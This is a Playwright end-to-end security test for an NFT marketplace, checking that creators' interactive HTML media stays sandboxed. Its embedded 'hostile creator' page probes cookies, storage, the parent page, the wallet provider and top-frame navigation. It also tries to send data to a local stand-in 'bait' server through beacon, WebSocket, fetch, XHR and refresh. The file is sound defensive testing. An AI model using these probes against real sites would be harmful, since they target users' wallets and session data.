import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { connectWallet } from '../support/connectAs.ts'
import { damage } from '../support/damage.ts'
import { mintPage } from '../support/mintPage.ts'
import { newcomer } from '../support/newcomer.ts'
import { seriousFindings } from '../support/seriousFindings.ts'
import { textFindings } from '../support/textFindings.ts'
import { useApps } from '../support/useApps.ts'

const url = inject('url')
const rpcUrl = inject('rpcUrl')
const open = useApps()

/** Whom no page of a stranger may reach. */
const outside = createServer().on('connection', () => visits++)
let visits = 0
let bait = ''

/**
 * The work of a hostile creator: it draws, and tries all that it must not be able to do, as soon as it runs. What came of
 * each attempt it writes down.
 */
const work = () => `<!doctype html><title>Work</title>
<canvas width="8" height="8" style="width:100%"></canvas><pre></pre>
<form action="${bait}/form"><input name="a"></form>
<img src="${bait}/picture"><link rel="stylesheet" href="${bait}/style"><iframe src="${bait}/frame"></iframe>
<script src="${bait}/script"></script><script>hits = 1</script>
<script>
const told = {}
const attempt = (name, act) => {
  try { told[name] = String(act()) } catch (error) { told[name] = error.name }
}
attempt('draws', () => {
  const context = document.querySelector('canvas').getContext('2d')
  context.fillStyle = '#0f0'
  context.fillRect(0, 0, 8, 8)
  return context.getImageData(4, 4, 1, 1).data.join()
})
attempt('origin', () => origin)
attempt('address', () => location.href)
attempt('page', () => parent.document.title)
attempt('page above', () => top.document.title)
attempt('its wallet', () => top.ethereum)
attempt('wallet', () => window.ethereum)
attempt('local storage', () => localStorage)
attempt('session storage', () => sessionStorage)
attempt('database', () => indexedDB.open('a'))
attempt('cookie', () => document.cookie)
attempt('service worker', () => navigator.serviceWorker.register('/a.js'))
attempt('window', () => open('${bait}/window'))
attempt('link', () => Object.assign(document.createElement('a'), { href: '${bait}/link', target: '_blank' }).click())
attempt('link above', () => Object.assign(document.createElement('a'), { href: '${bait}/link', target: '_top' }).click())
attempt('address above', () => { top.location = '${bait}/top' })
attempt('address around', () => { parent.location = '${bait}/parent' })
attempt('permissions', () => document.featurePolicy.allowedFeatures().filter(
  name => /camera|microphone|location|clipboard|payment|usb|hid|serial|credential|storage|screen/.test(name),
))
attempt('form', () => document.querySelector('form').submit())
attempt('alert', () => alert('x'))
attempt('confirm', () => confirm('x'))
attempt('prompt', () => prompt('x'))
attempt('print', () => print())
attempt('download', () => Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x' }).click())
attempt('beacon', () => void navigator.sendBeacon('${bait}/beacon', 'x'))
attempt('socket', () => void new WebSocket('${bait.replace('http', 'ws')}'))
attempt('events', () => void new EventSource('${bait}/events'))
attempt('request', () => { const request = new XMLHttpRequest(); request.open('GET', '${bait}/xhr', false); request.send() })
let wallets = 0
addEventListener('eip6963:announceProvider', () => wallets++)
dispatchEvent(new Event('eip6963:requestProvider'))
const later = (name, act) => act().then(
  value => { told[name] = String(value) },
  error => { told[name] = error.name },
)
Promise.all([
  later('fetch of the API', () => fetch('${url}/api/31338/collections/v7')),
  later('fetch of another', () => fetch('${bait}/fetch', { mode: 'no-cors' })),
  later('module', () => import('${bait}/module.js')),
  later('clipboard', () => navigator.clipboard.readText()),
  later('the whole screen', () => document.body.requestFullscreen()),
]).then(() => {
  told.wallets = wallets
  document.querySelector('pre').textContent = JSON.stringify(told)
})
</script>`

beforeAll(async () => {
  await once(outside.listen(0, '127.0.0.1'), 'listening')
  bait = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
})
afterAll(() => {
  outside.close()
})

/** What a browser says of everything that is refused. */
const refusals = [
  /Content Security Policy/,
  /sandbox/i,
  /Unsafe attempt to initiate navigation/,
  /modal dialog|Ignored call/,
  /status of 404/,
  /Permissions policy violation/,
  // Of who looks whether it is accessible, and asks each frame.
  /target origin provided .* does not match the recipient window's origin \('null'\)/,
]

/** Opens the page of a token whose media is this page. */
async function openWork(html: string, options: Partial<Parameters<typeof open>[0]> = {}) {
  const path = await mintPage({ url, secondRpcUrl: inject('secondRpcUrl'), html })
  const app = await open({ path, tolerate: refusals, ...options })
  app.page.on('dialog', dialog => {
    throw new Error(`a dialog was opened: ${dialog.message()}`)
  })
  return app
}

/** The stranger's frame, which stands in one of the marketplace's, once it runs. */
async function run(page: Page): Promise<Frame> {
  await page.getByRole('button', { name: 'Run interactive media' }).click()
  const around = page.frameLocator('iframe[title="Interactive media of Clockwork"]')
  const inner = around.frameLocator('iframe')
  await inner.locator('pre').filter({ hasText: '{' }).waitFor({ state: 'attached' })
  const frame = await (await inner.locator('pre').elementHandle())?.ownerFrame()
  if (!frame) throw new Error('The work has no frame.')
  return frame
}

/** What a browser shows in the place of an address that a frame may not have. */
const refused = 'chrome-error://chromewebdata/'

describe('interactive media', () => {
  test('run once they are asked for, and reach nothing but themselves (T5)', async () => {
    const who = await newcomer({ url, rpcUrl })
    const { page, context, wallet } = await openWork(work(), { wallet: who.wallet })
    await connectWallet(page)
    await page.getByText(/cannot reach your wallet/).waitFor()
    expect(await page.locator('iframe').count()).toBe(0)
    const before = page.url()
    const frame = await run(page)
    const asked = wallet?.requests.length
    expect(JSON.parse((await frame.locator('pre').textContent()) ?? '')).toEqual({
      draws: '0,255,0,255',
      ...{
        origin: 'null',
        address: 'about:srcdoc',
        permissions: '',
        wallet: 'undefined',
        wallets: 0,
      },
      ...{ page: 'SecurityError', 'page above': 'SecurityError', 'its wallet': 'SecurityError' },
      ...{ 'local storage': 'SecurityError', 'session storage': 'SecurityError' },
      ...{ database: 'SecurityError', cookie: 'SecurityError', 'service worker': 'SecurityError' },
      ...{ window: 'null', link: 'undefined', 'link above': 'undefined' },
      ...{ 'address above': 'SecurityError', 'address around': 'SecurityError' },
      ...{
        form: 'undefined',
        alert: 'undefined',
        confirm: 'false',
        prompt: 'null',
        print: 'undefined',
      },
      ...{ download: 'undefined', beacon: 'undefined', socket: 'undefined', events: 'undefined' },
      ...{
        request: 'NetworkError',
        'fetch of the API': 'TypeError',
        'fetch of another': 'TypeError',
      },
      ...{ module: 'TypeError', clipboard: 'NotAllowedError', 'the whole screen': 'TypeError' },
    })
    // A wallet is in every frame that has an address, also in ours around it, and knows a page by that.
    const wallets = await frame.parentFrame()?.evaluate(() => {
      let count = 0
      window.addEventListener('eip6963:announceProvider', () => count++)
      window.dispatchEvent(new Event('eip6963:requestProvider'))
      return [window.origin, count]
    })
    expect(wallets).toEqual(['null', 1])
    // Nor may it be led elsewhere, where it could tell of who looks at it: to us, or to another host.
    const requests: string[] = []
    page.on('request', request => {
      if (request.isNavigationRequest()) requests.push(request.url())
    })
    await frame.evaluate(address => window.location.assign(address), `${url}/settings`)
    await expect.poll(() => frame.url()).toBe(refused)
    expect(requests).toEqual([])
    expect(visits).toBe(0)
    expect(context.pages()).toHaveLength(1)
    expect(page.url()).toBe(before)
    expect(wallet?.requests.slice(asked)).toEqual([])

    await page.getByRole('button', { name: 'Stop interactive media' }).click()
    await page.locator('iframe').waitFor({ state: 'detached' })
    await page.getByRole('img', { name: 'Clockwork' }).waitFor()
    expect(await damage(page)).toEqual(damage.none)
  })

  test('a work that leads on by itself leads nowhere (T5)', async () => {
    const lead = `<!doctype html><meta http-equiv="refresh" content="1;url=${bait}/refresh"><pre>{</pre>`
    const { page } = await openWork(lead)
    const frame = await run(page)
    await expect.poll(() => frame.url(), { timeout: 10_000 }).toBe(refused)
    expect(visits).toBe(0)
  })

  test('by keys, on a phone, accessible while they run, and nowhere but on the page of the token', async () => {
    const { page } = await openWork('<!doctype html><pre>{</pre>', {
      ...{ viewport: { width: 390, height: 844 }, reducedMotion: 'reduce' },
    })
    await page.getByRole('button', { name: 'Run interactive media' }).waitFor()
    expect([...(await seriousFindings(page)), ...(await textFindings(page))]).toEqual([])
    const path = new URL(page.url()).pathname
    await run(page)
    const stop = page.getByRole('button', { name: 'Stop interactive media' })
    expect(await stop.evaluate(button => button === document.activeElement)).toBe(true)
    expect([...(await seriousFindings(page)), ...(await textFindings(page))]).toEqual([])
    // All of it is in sight, and nothing lies over it.
    const [frame, button] = [await page.locator('iframe').boundingBox(), await stop.boundingBox()]
    expect(frame?.width).toBe(frame?.height)
    expect((frame?.y ?? 0) + (frame?.height ?? 0)).toBeLessThanOrEqual(button?.y ?? 0)
    await page.keyboard.press('Enter')
    await page.locator('iframe').waitFor({ state: 'detached' })

    await page.goto(`${url}${path.replace('token', 'collection').replace(/.1$/, '')}?show=all`)
    await page.getByRole('link', { name: 'Clockwork' }).first().waitFor()
    expect(await page.locator('iframe').count()).toBe(0)
    // By itself it would stand under the name of the marketplace.
    const media = `/media${path.replace('/token', '')}/html`
    expect((await page.request.get(url + media)).status()).toBe(200)
    expect((await page.goto(url + media))?.status()).toBe(404)
  })
})
